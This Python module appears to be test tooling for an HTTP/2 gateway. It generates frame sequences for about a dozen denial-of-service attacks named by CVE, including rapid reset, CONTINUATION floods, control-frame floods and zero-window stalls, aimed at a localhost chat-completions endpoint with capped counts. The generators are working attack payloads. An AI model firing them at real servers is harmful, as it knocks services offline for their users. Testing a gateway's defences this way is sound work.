"""Ten ways to abuse an HTTP/2 connection, and one that is allowed: CVE-2019-9512 to -9518,
CVE-2023-44487, CVE-2024-27316, CVE-2025-8671."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

from hpack import Encoder

from core.http2 import frames
from core.http2.frames import frame

MOST_RESETS, MOST_FRAMES = 500, 1_000
DELAYED = 40  # requests, before the first is reset
QUIET = ""
_BODY = (
    b'{"model":"demo","stream":true,"max_tokens":%d,"messages":[{"role":"user","content":"abuse"}]}'
)
_OPEN = frames.END_HEADERS
_LARGE = ("x-large", "x" * 3_900)
UNREAD = "windows that stay shut"


class Speaker:
    """Writes what one connection says."""

    def __init__(self, token: str) -> None:
        self._encoder = Encoder()
        self._ids = itertools.count(1, 2)
        self._head = [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", "/v1/chat/completions"),
            ("content-type", "application/json"),
            ("authorization", f"Bearer {token}"),
        ]

    def __repr__(self) -> str:
        return "<Speaker>"

    def head(self, flags: int = _OPEN, more: int = 0) -> tuple[int, bytes]:
        stream, block = next(self._ids), self._encoder.encode([*self._head, *[_LARGE] * more])
        return stream, frame(frames.HEADERS, flags, stream, block)

    def ask(self, tokens: int = 1) -> tuple[int, bytes]:
        stream, head = self.head()
        return stream, head + frame(frames.DATA, frames.END_STREAM, stream, _BODY % tokens)


Pattern = Callable[[Speaker], Iterator[bytes]]
"""What is said again and again: one item is one reset or one frame."""


def _nothing(speaker: Speaker) -> Iterator[bytes]:
    return iter(())


def _rapid_reset(speaker: Speaker) -> Iterator[bytes]:
    """A little later, so that work has begun."""
    while True:
        stream, said = speaker.ask(100_000)
        if stream > 2 * DELAYED:
            said += frame(frames.RST_STREAM, 0, stream - 2 * DELAYED, b"\0\0\0\x08")
        yield said


def _made_reset(speaker: Speaker) -> Iterator[bytes]:
    while True:
        stream, said = speaker.ask(1_000)
        yield said + frame(frames.WINDOW_UPDATE, 0, stream, bytes(4))


def _too_many(speaker: Speaker) -> Iterator[bytes]:
    while True:
        yield speaker.ask(100_000)[1]


def _unread(speaker: Speaker) -> Iterator[bytes]:
    """Not to be cut: so many streams are allowed, and each waits for its window alone."""
    yield frame(frames.SETTINGS, 0, 0, b"\0\x04\0\0\0\0") + speaker.ask(100_000)[1]
    for _ in range(99):
        yield speaker.ask(100_000)[1]


def _headers(speaker: Speaker) -> Iterator[bytes]:
    while True:
        yield speaker.head(frames.END_HEADERS | frames.END_STREAM, more=14)[1]


def _continuations(speaker: Speaker) -> Iterator[bytes]:
    stream, head = speaker.head(frames.END_STREAM)
    yield head
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, stream))


def _in_a_body(kind: int, payload: bytes) -> Pattern:
    def said(speaker: Speaker) -> Iterator[bytes]:
        stream, head = speaker.head()
        yield head
        yield from itertools.repeat(frame(kind, 0, stream, payload))

    return said


def _again(kind: int, payload: bytes = b"", stream: int = 0) -> Pattern:
    return lambda _: itertools.repeat(frame(kind, 0, stream, payload))


PATTERNS: dict[str, tuple[Pattern, int]] = {
    QUIET: (_nothing, 0),
    "resets by the client": (_rapid_reset, MOST_RESETS),
    "resets by the gateway": (_made_reset, MOST_RESETS),
    "streams too many": (_too_many, MOST_RESETS),
    "SETTINGS": (_again(frames.SETTINGS), MOST_FRAMES),
    "PING": (_again(frames.PING, bytes(8)), MOST_FRAMES),
    "PRIORITY": (_again(frames.PRIORITY, bytes(4) + b"\x10", 101), MOST_FRAMES),
    "WINDOW_UPDATE": (_again(frames.WINDOW_UPDATE, b"\0\0\0\1"), MOST_FRAMES),
    "empty DATA": (_in_a_body(frames.DATA, b""), MOST_FRAMES),
    "CONTINUATION": (_continuations, MOST_FRAMES),
    "large header lists": (_headers, MOST_FRAMES),
    UNREAD: (_unread, MOST_FRAMES),
}
